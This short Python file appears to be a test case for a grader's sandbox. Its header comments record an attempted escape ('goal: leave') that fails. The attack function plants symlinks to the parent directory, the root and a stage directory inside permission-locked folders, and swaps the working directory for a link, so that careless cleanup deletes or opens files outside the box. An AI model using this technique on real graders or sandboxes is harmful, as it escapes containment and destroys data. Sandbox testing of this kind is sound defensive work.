# tries: to have the grader follow links while it tidies up: to delete or to open what they name
# fails: a box is removed without following links, and none of its files is ever read
# goal: leave
# stopped from: T0
# undefended: elsewhere: what the links name, where a box is emptied carelessly
bring = __builtins__["__import__"]
os = bring("os")


def attack(*arguments, **keywords):
    here = os.getcwd()
    for name, target in (("up", ".."), ("top", "/"), ("stage", "../stage"), ("loop", "loop")):
        try:
            os.symlink(target, name)
            os.mkdir(f"locked-{name}", 0o700)
            os.symlink(f"../../{target}", f"locked-{name}/inner")
            os.chmod(f"locked-{name}", 0)
        except OSError:
            continue
    try:
        os.rename(here, f"{here}-moved")
        os.symlink(os.path.join(os.path.dirname(here), "stage"), here)
    except OSError:
        pass  # a box that is a mount cannot be moved
    return 0
